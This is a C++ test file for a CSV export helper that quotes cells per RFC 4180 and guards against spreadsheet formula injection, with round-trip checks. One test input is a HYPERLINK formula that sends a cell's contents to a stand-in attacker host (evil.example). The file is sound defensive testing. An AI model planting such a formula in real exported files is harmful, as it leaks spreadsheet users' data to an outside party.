// CSV cells for spreadsheets: RFC 4180 quoting and the formula guard.
#include <doctest/doctest.h>

#include <string>

#include "interop/csv_cell.h"

using fundtrail::interop::csv_cell;
using fundtrail::interop::csv_unguard;

namespace {

// RFC 4180 unquoting of one cell, as a spreadsheet or a CSV reader does it.
std::string unquote(const std::string& cell) {
  if (cell.size() < 2 || cell.front() != '"') return cell;
  std::string out;
  for (size_t i = 1; i + 1 < cell.size(); ++i) {
    out += cell[i];
    if (cell[i] == '"') ++i;  // a doubled quote
  }
  return out;
}

}  // namespace

TEST_CASE("text a spreadsheet would run as a formula gets a leading apostrophe") {
  CHECK(csv_cell("=1+1") == "'=1+1");
  CHECK(csv_cell("+44 20 7946 0000") == "'+44 20 7946 0000");
  CHECK(csv_cell("-2+3") == "'-2+3");
  CHECK(csv_cell("@SUM(A1:A9)") == "'@SUM(A1:A9)");
  CHECK(csv_cell("-") == "'-");
  CHECK(csv_cell("\rx") == "\"'\rx\"");                // guarded, then quoted for the CR
  CHECK(csv_cell("\t=1") == "'\t=1");                 // guarded; the tab is no longer first, so unquoted
  CHECK(csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
}

TEST_CASE("numbers, ordinary text and formula characters after the first are left alone") {
  CHECK(csv_cell("-1250") == "-1250");
  CHECK(csv_cell("-12.50") == "-12.50");
  CHECK(csv_cell("1250.00") == "1250.00");
  CHECK(csv_cell("-12.") == "'-12.");    // not a number: a trailing dot
  CHECK(csv_cell("-.5") == "'-.5");      // not how fundtrail writes numbers
  CHECK(csv_cell("--5") == "'--5");
  CHECK(csv_cell("a=b") == "a=b");
  CHECK(csv_cell("GB-CHC-1164883") == "GB-CHC-1164883");
  CHECK(csv_cell("") == "");
  CHECK(csv_cell("'quoted already") == "'quoted already");
  CHECK(csv_cell("'=x") == "''=x");  // its own apostrophe kept apart from the guard
  CHECK(csv_cell("'-12") == "'-12");  // a number after it: nothing to guard
}

TEST_CASE("RFC 4180 quoting: separators, quotes, line breaks and blanks a reader would trim") {
  CHECK(csv_cell("a,b") == "\"a,b\"");
  CHECK(csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(csv_cell("two\r\nlines") == "\"two\r\nlines\"");
  CHECK(csv_cell(" lead") == "\" lead\"");
  CHECK(csv_cell("trail ") == "\"trail \"");
  CHECK(csv_cell("tab\t") == "\"tab\t\"");
  CHECK(csv_cell("in side") == "in side");
}

TEST_CASE("unquoting then unguarding gives back exactly the text that was written") {
  for (std::string text : {"=1+1", "+44", "-2+3", "@x", "-", "\r=", "\t=1", "-1250", "-12.50", "a,b", "say \"hi\"",
                           "'=already guarded", "''=x", "'-12", "'", "''", "'x", "", " lead", "=a,\"b\"\r\nc"}) {
    CAPTURE(text);
    CHECK(std::string(csv_unguard(unquote(csv_cell(text)))) == text);
  }
  CHECK(csv_unguard("'=x") == "=x");
  CHECK(csv_unguard("''=x") == "'=x");
  CHECK(csv_unguard("'x") == "'x");  // an apostrophe before anything else is the text's own
  CHECK(csv_unguard("'") == "'");
}
